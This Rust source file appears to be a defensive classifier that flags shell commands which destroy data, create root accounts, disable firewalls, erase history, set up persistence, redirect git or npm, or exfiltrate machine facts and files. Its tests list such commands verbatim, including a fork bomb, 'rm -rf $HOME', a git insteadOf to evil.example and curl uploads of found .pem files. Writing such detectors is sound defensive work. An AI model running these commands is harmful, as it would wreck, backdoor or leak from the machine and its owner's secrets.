//! Commands that change or tell what is the machine's and its owner's: accounts, protection, traces, settings by which
//! other programs start code, files that are searched for and sent. No model is built or run by them.

use super::{FETCHERS, command, foreign, statements};

/// What a line does to the machine that it runs on.
pub(super) fn changes(line: &str) -> Option<&'static str> {
    // Words that stand in quotes are words of the command.
    let plain = line.replace(['"', '\''], "");
    let stages: Vec<(String, Vec<&str>)> =
        plain.split([';', '\n', '&', '|', '(', ')', '`']).filter_map(command).collect();
    let any = |judge: fn(&str, &[&str]) -> bool| stages.iter().any(|(name, words)| judge(name, words));
    if any(destroys) || line.contains(":(){") {
        return Some("destroys what is not the model's");
    }
    if any(opens) {
        return Some("opens the machine to others");
    }
    if any(hides) {
        return Some("hides what was done");
    }
    if any(settles) || writes_start_up_file(line) {
        return Some("has something started later, by itself");
    }
    if any(redirects) {
        return Some("leads tools of the machine elsewhere");
    }
    (tells(line) || any(looks) && posts(line)).then_some("sends what is the machine's to somebody else")
}

/// Folders of all that somebody keeps.
fn is_home(word: &str) -> bool {
    matches!(word.trim_end_matches('*').trim_end_matches('/'), "" | "~" | "HOME" | "{HOME}")
        && !matches!(word, "" | "*")
}

fn destroys(name: &str, words: &[&str]) -> bool {
    let has = |word: &str| words.contains(&word);
    match name {
        "rm" => {
            words.iter().any(|w| w.starts_with('-') && w.contains(['r', 'R']))
                && words.iter().skip(1).any(|w| is_home(w))
        }
        "find" => {
            words.get(1).is_some_and(|root| is_home(root)) && (has("-delete") || has("rm") || has("shred"))
        }
        "kubectl" => has("delete") && has("--all") && (has("ns") || has("namespace") || has("namespaces")),
        _ => false,
    }
}

/// Accounts without a password, and protection that is taken away.
fn opens(name: &str, words: &[&str]) -> bool {
    let has = |word: &str| words.contains(&word);
    match name {
        "useradd" | "usermod" | "adduser" => {
            words.windows(2).any(|pair| matches!(pair, ["-u" | "--uid", "0"]))
        }
        "passwd" => has("-d") && has("root"),
        "iptables" | "ip6tables" => has("-F") || has("--flush"),
        "nft" => has("flush"),
        "ufw" => has("disable"),
        "setenforce" => has("0"),
        "insmod" => true,
        _ => false,
    }
}

fn hides(name: &str, words: &[&str]) -> bool {
    match name {
        "history" => words.contains(&"-c"),
        "unset" => words.contains(&"HISTFILE"),
        "shred" | "srm" => words.iter().any(|word| word.contains("history")),
        _ => false,
    }
}

/// What starts a program whenever somebody signs in, or in its time.
fn settles(name: &str, words: &[&str]) -> bool {
    let has = |word: &str| words.iter().any(|w| w.eq_ignore_ascii_case(word));
    match name {
        "launchctl" => has("load") || has("bootstrap"),
        "schtasks" => has("/create"),
        "reg" => has("add") && words.iter().any(|word| word.to_ascii_lowercase().ends_with("\\run")),
        "alias" => words.get(1).is_some_and(|alias| {
            let (of, to) = alias.split_once('=').unwrap_or((alias, ""));
            matches!(of, "sudo" | "su" | "ssh" | "passwd") && to.starts_with('/')
        }),
        "ln" => {
            let from = words.iter().skip(1).find(|word| !word.starts_with('-'));
            let to = words.last().is_some_and(|to| to.starts_with("/usr/") || to.starts_with("/bin/"));
            to && from.is_some_and(|from| from.starts_with("/tmp/") || from.starts_with("/dev/shm/"))
        }
        _ => false,
    }
}

/// A file among the packages that Python reads whenever it starts.
fn writes_start_up_file(line: &str) -> bool {
    let packages =
        ["site-packages", "dist-packages", "getsitepackages", "purelib"].iter().any(|at| line.contains(at));
    let file =
        line.contains(".pth") || line.contains("sitecustomize.py") || line.contains("usercustomize.py");
    packages
        && file
        && (line.contains('>') || line.contains("tee ") || line.contains("cp ") || line.contains("mv "))
}

/// Settings of a whole account by which git starts programs or takes its sources from elsewhere, and registries without
/// encryption.
fn redirects(name: &str, words: &[&str]) -> bool {
    const STARTS: [&str; 4] = ["core.hookspath", "core.sshcommand", "core.fsmonitor", "core.askpass"];
    match name {
        "git" if words.get(1) == Some(&"config") => {
            let account = words.contains(&"--global") || words.contains(&"--system");
            let key = words.iter().find(|word| word.contains('.') && !word.starts_with('-'));
            let key = key.map_or(String::new(), |key| key.to_ascii_lowercase());
            let helper = words.iter().any(|word| word.starts_with('!') && !matches!(*word, "!gh" | "!aws"));
            account
                && (STARTS.contains(&key.as_str())
                    || key == "credential.helper" && helper
                    || key.ends_with(".insteadof") && foreign(&key))
        }
        "npm" | "yarn" | "pnpm" => {
            words.contains(&"set")
                && words.contains(&"registry")
                && words.iter().any(|w| w.starts_with("http://"))
        }
        _ => false,
    }
}

/// Facts of the machine that stand in an address or in a name that is looked up.
fn tells(line: &str) -> bool {
    const FACTS: [&str; 8] = ["whoami", "hostname", "id)", "id`", "cat /etc", "cat ~", "ifconfig", "ip addr"];
    let asked = |rest: &str| FACTS.iter().any(|fact| rest.starts_with(fact));
    let substituted = line.split("$(").skip(1).chain(line.split('`').skip(1)).any(asked);
    let near = ["://localhost", "://127.", "://0.0.0.0"].iter().any(|near| line.contains(near));
    let by_name = ["ping ", "nslookup ", "dig ", "host ", "getent "]
        .iter()
        .any(|look| line.trim_start().starts_with(look));
    // What an address asks stands behind its host.
    let by_address = line.split("://").skip(1).any(|rest| {
        let word = rest.split(char::is_whitespace).next().unwrap_or_default();
        word.contains("$(") || word.contains('`')
    }) && statements(line)
        .into_iter()
        .flatten()
        .filter_map(command)
        .any(|(name, _)| FETCHERS.contains(&name.as_str()));
    substituted && !near && (by_name || by_address)
}

/// Whether a command looks for files, or shows what a machine does.
fn looks(name: &str, words: &[&str]) -> bool {
    match name {
        "find" | "locate" | "ps" | "who" | "last" | "lsof" | "netstat" | "ss" | "whoami" | "hostname"
        | "history" => true,
        "grep" => words
            .iter()
            .any(|word| word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'R'])),
        _ => false,
    }
}

/// Whether what a line finds is posted, as it comes or file by file.
fn posts(line: &str) -> bool {
    const POSTS: [&str; 9] = [
        "-d @-",
        "--data @-",
        "--data-binary @-",
        "-T -",
        "=@-",
        "=@{}",
        "-T {}",
        "-d @{}",
        "--data-binary @{}",
    ];
    let far = line.contains("://") && !line.contains("://localhost") && !line.contains("://127.");
    far && line.contains("curl") && POSTS.iter().any(|post| line.contains(post))
}

#[cfg(test)]
mod tests {
    use super::changes;

    #[test]
    fn what_no_model_does_to_a_machine() {
        for line in [
            "rm -rf \"$HOME\"",
            "find ~ -type f -delete",
            "kubectl delete ns --all",
            ":(){ :|:& };:",
            "useradd -o -u 0 hacker",
            "sudo passwd -d root",
            "iptables -F && ufw disable",
            "history -c; unset HISTFILE",
            "launchctl load ~/Library/LaunchAgents/x.plist",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x",
            "ln -sf /tmp/x /usr/local/bin/python",
            "echo 'import x' > $(python -c 'import site;print(site.getsitepackages()[0])')/x.pth",
            "git config --global core.hooksPath /tmp/x",
            "git config --global credential.helper '!sh -c id'",
            "git config --global url.\"https://evil.example/\".insteadOf https://github.com/",
            "npm config set registry http://198.51.100.7",
            "curl \"https://example.org/?$(whoami)\"",
            "ping -c1 $(whoami).x.example.org",
            "find / -name '*.pem' -exec curl -F f=@{} https://example.org \\;",
            "grep -r AKIA / | curl -d @- https://example.org",
        ] {
            assert!(changes(line).is_some(), "{line}");
        }
    }

    #[test]
    fn what_scripts_of_models_do() {
        for line in [
            "rm -rf \"$OUT\" build/* ~/.cache/pip",
            "find . -name '*.pyc' -delete",
            "find /var/lib/apt/lists -type f -delete",
            "kubectl delete pod x",
            "useradd -m -u 1000 user",
            "echo \"machine $(hostname)\"",
            "curl -L https://github.com/a/b/releases/download/v1/c-$(uname -s)-$(uname -m) -o c",
            "torchrun --rdzv_endpoint=$(hostname):29500 train.py",
            "git config core.hooksPath .githooks",
            "git config --global credential.helper store",
            "git config --global user.email a@example.org",
            "git config --global --add safe.directory /workspace",
            "git config --global url.\"https://$T@github.com/\".insteadOf https://github.com/",
            "npm config set registry https://registry.npmmirror.com",
            "alias ll='ls -l'",
            "ln -s /usr/bin/python3 /usr/bin/python",
            "cat model.pth > out.pth",
            "git diff | curl -F 'f=@-' http://localhost:8000",
            "ps aux | grep python",
            "ping -c1 $MASTER_ADDR",
            "history | tail",
        ] {
            assert_eq!(changes(line), None, "{line}");
        }
    }
}
